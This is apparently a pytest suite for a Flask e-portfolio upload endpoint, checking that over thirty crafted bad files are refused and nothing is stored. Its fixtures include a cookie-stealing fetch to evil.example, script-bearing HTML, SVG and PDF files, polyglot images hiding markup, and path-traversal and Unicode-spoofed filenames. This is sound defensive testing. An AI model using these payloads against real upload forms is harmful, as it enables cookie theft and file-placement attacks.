"""Thirty-odd crafted bad uploads are all refused with a clear message, and none is kept."""

from __future__ import annotations

import gzip
import io
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from eportfolio.portfolios.models import Evidence
from tests.conftest import csrf_token, login
from tests.evidence_samples import JPEG, multipart, pdf, png

MB = 1024 * 1024
PDF = pdf()
PNG = png()


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("cv.pdf", PDF)
    return out.getvalue()


def _pdf_with(action: Callable[[Any], None]) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    action(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action_script(writer: Any) -> None:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1);"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)


def _jpeg_comment(text: bytes) -> bytes:
    """Hide ``text`` in a JPEG comment segment: still a well-formed JPEG."""
    return JPEG[:2] + b"\xff\xfe" + (len(text) + 2).to_bytes(2, "big") + text + JPEG[2:]


def _flip(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200 + b"This program"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>'
SCRIPT = b"fetch('https://evil.example/?c='+document.cookie)"
# Swedish text each refusal must show (the start of the message is enough to be clear).
NOT_ALLOWED = "Bara PDF-, JPEG- och PNG-filer"
HIDDEN = "dold"
DAMAGED = "skadad eller ofullständig"
NAME_TYPE = "Filnamnet säger en filtyp"

# id -> (file name, bytes, words the message must contain, bytes already used by the person)
CASES: dict[str, tuple[str, bytes, str, int]] = {
    "exe-renamed-pdf": ("cv.pdf", EXE, "EXE", 0),
    "zip-renamed-pdf": ("cv.pdf", _zip(), "ZIP", 0),
    "html-renamed-pdf": ("cv.pdf", HTML, NOT_ALLOWED, 0),
    "html-as-html": ("sida.html", HTML, "program eller webbsidor", 0),
    "svg-renamed-png": ("bild.png", SVG, NOT_ALLOWED, 0),
    "svg-as-svg": ("bild.svg", SVG, "program eller webbsidor", 0),
    "script-js": ("skript.js", SCRIPT, "program eller webbsidor", 0),
    "text-file": ("anteckning.txt", b"Hej, jag kan svetsa.", NOT_ALLOWED, 0),
    "text-renamed-pdf": ("cv.pdf", "Jag kan köra truck.".encode(), NOT_ALLOWED, 0),
    "gzip-renamed-pdf": ("cv.pdf", gzip.compress(PDF), "GZ", 0),
    "gif-renamed-png": ("bild.png", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "GIF", 0),
    "path-dot-dot": ("../../x.pdf", PDF, "mappnamn", 0),
    "path-backslash": ("..\\..\\windows\\x.pdf", PDF, "mappnamn", 0),
    "path-absolute": ("/etc/cron.d/x.pdf", PDF, "mappnamn", 0),
    "hidden-dotfile": (".htaccess.pdf", PDF, "mappnamn", 0),
    "zero-bytes": ("tom.pdf", b"", "tom", 0),
    "over-file-limit": ("stor.pdf", PDF[:-6] + b" " * (10 * MB) + b"%%EOF\n", "större än 10 MB", 0),
    "over-person-total": ("cv.pdf", PDF, "högst 200 MB", 200 * MB - 100),
    "pdf-truncated": ("cv.pdf", PDF[: len(PDF) // 2], DAMAGED, 0),
    "pdf-header-only": ("cv.pdf", b"%PDF-1.7\n", DAMAGED, 0),
    "pdf-garbage-body": ("cv.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 50 + b"\n%%EOF\n", DAMAGED, 0),
    "pdf-with-javascript": ("cv.pdf", _pdf_with(_open_action_script), HIDDEN, 0),
    "pdf-with-attachment": (
        "cv.pdf",
        _pdf_with(lambda w: w.add_attachment("x.exe", EXE)),
        HIDDEN,
        0,
    ),
    "pdf-encrypted": ("cv.pdf", _pdf_with(lambda w: w.encrypt("hemligt")), "lösenord", 0),
    "polyglot-pdf-zip": ("cv.pdf", PDF + _zip(), HIDDEN, 0),
    "polyglot-pdf-html": ("cv.pdf", PDF[:9] + b"%" + HTML + b"\n" + PDF[9:], HIDDEN, 0),
    "polyglot-png-html": ("bild.png", PNG + HTML, HIDDEN, 0),
    "polyglot-jpeg-script": ("bild.jpg", _jpeg_comment(b"<script>alert(1)</script>"), HIDDEN, 0),
    "png-garbage": ("bild.png", b"\x89PNG\r\n\x1a\n" + b"\x13\x37garbage" * 40, DAMAGED, 0),
    "png-bad-crc": ("bild.png", _flip(PNG, len(PNG) - 20), DAMAGED, 0),
    "png-truncated": ("bild.png", PNG[:-12], DAMAGED, 0),
    "jpeg-header-only": ("bild.jpg", JPEG[:20], DAMAGED, 0),
    "jpeg-truncated": ("bild.jpg", JPEG[:-100], DAMAGED, 0),
    "pdf-claimed-png": ("bild.png", PDF, NAME_TYPE, 0),
    "png-claimed-jpeg": ("bild.jpg", PNG, NAME_TYPE, 0),
    "double-extension-exe": ("x.pdf.exe", PDF, "program eller webbsidor", 0),
    "inner-extension-exe": ("faktura.exe.pdf", PDF, "program eller webbsidor", 0),
    "no-extension": ("cv", PDF, "sluta på .pdf", 0),
    "unicode-right-to-left": ("cv\u202efdp.exe", EXE, "dolda tecken", 0),
    "unicode-zero-width": ("cv\u200b.pdf", PDF, "dolda tecken", 0),
    "unicode-fullwidth-dot": ("faktura.exe\uff0epdf", PDF, "program eller webbsidor", 0),
    "no-file-chosen": ("", b"", "Välj en fil", 0),
}


@pytest.fixture
def upload_dir(app: Flask) -> Iterator[Path]:
    path = Path(app.config["UPLOAD_DIR"])
    path.mkdir(parents=True, exist_ok=True)
    yield path


def _files(path: Path) -> set[str]:
    return {p.name for p in path.iterdir()}


def test_there_are_at_least_thirty_distinct_cases() -> None:
    assert len(CASES) >= 30
    assert len({(name, data) for name, data, _, _ in CASES.values()}) == len(CASES)


@pytest.mark.parametrize("case", sorted(CASES))
def test_bad_upload_is_refused_and_nothing_is_kept(
    client: FlaskClient,
    create_user: Callable[..., Any],
    db_session: Session,
    upload_dir: Path,
    case: str,
) -> None:
    name, data, words, used = CASES[case]
    learner = create_user("learner")
    login(client, learner)
    if used:
        from eportfolio.portfolios.services import portfolio_for

        portfolio = portfolio_for(db_session, learner)
        db_session.add(Evidence(portfolio_id=portfolio.id, kind="file", title="old", size=used))
        db_session.flush()
    before_files = _files(upload_dir)
    before_rows = db_session.scalar(select(func.count(Evidence.id)))
    token = csrf_token(client, "/portfolio/evidence")
    response = client.post(
        "/portfolio/evidence/files", **multipart({"csrf_token": token, "title": case}, data, name)
    )
    html = response.get_data(as_text=True)
    assert response.status_code == 422, html[:300]
    assert 'id="file-error"' in html and "error-summary" in html
    assert words in html, f"{case}: expected {words!r} in the message"
    db_session.expire_all()
    assert db_session.scalar(select(func.count(Evidence.id))) == before_rows
    assert _files(upload_dir) == before_files


@pytest.mark.parametrize("case", ["exe-renamed-pdf", "polyglot-png-html", "zero-bytes"])
def test_the_api_refuses_the_same_files(
    client: FlaskClient,
    create_user: Callable[..., Any],
    db_session: Session,
    upload_dir: Path,
    case: str,
) -> None:
    name, data, _words, _used = CASES[case]
    login(client, create_user("learner"))
    before = _files(upload_dir)
    token = csrf_token(client, "/account")
    response = client.post(
        "/api/v1/me/portfolio/evidence",
        data={"file": (io.BytesIO(data), name)},
        content_type="multipart/form-data",
        headers={"X-CSRFToken": token},
    )
    assert response.status_code == 422
    assert response.mimetype == "application/problem+json"
    assert response.json["errors"]["file"]
    assert _files(upload_dir) == before
    assert db_session.scalar(select(func.count(Evidence.id))) == 0


def test_a_body_over_the_request_limit_is_413_and_nothing_is_kept(
    client: FlaskClient, create_user: Callable[..., Any], upload_dir: Path
) -> None:
    login(client, create_user("learner"))
    before = _files(upload_dir)
    token = csrf_token(client, "/portfolio/evidence")
    big = PDF + b" " * (client.application.config["MAX_CONTENT_LENGTH"] + 1)
    response = client.post(
        "/portfolio/evidence/files", **multipart({"csrf_token": token}, big, "stor.pdf")
    )
    assert response.status_code == 413
    assert "10 MB" in response.get_data(as_text=True)
    assert _files(upload_dir) == before


def _png_with_pixels(raw: bytes) -> bytes:
    """A valid PNG whose compressed pixel data holds ``raw`` verbatim (a stored deflate block)."""
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    width = len(raw) // 3
    header = struct.pack(">IIBBBBB", width, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" + raw[: width * 3], level=0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize(
    "name,data",
    [
        ("foto.png", _png_with_pixels(b"\x10\x20<a \x30\x40<A\t\x50" * 4)),
        ("foto.jpg", JPEG[:-2] + b"\x12<a \x34<A\n" + JPEG[-2:]),  # in the scan, before EOI
    ],
)
def test_pictures_whose_pixel_data_reads_like_markup_by_chance_are_kept(
    client: FlaskClient, create_user: Callable[..., Any], name: str, data: bytes
) -> None:
    """Compressed pixels hold '<a ' by chance in most photos of a few MB; only text parts
    (comments, metadata) can hide markup, so only those are searched."""
    login(client, create_user("learner"))
    token = csrf_token(client, "/portfolio/evidence")
    response = client.post(
        "/portfolio/evidence/files", **multipart({"csrf_token": token, "title": "Foto"}, data, name)
    )
    assert response.status_code == 302, response.get_data(as_text=True)[:300]
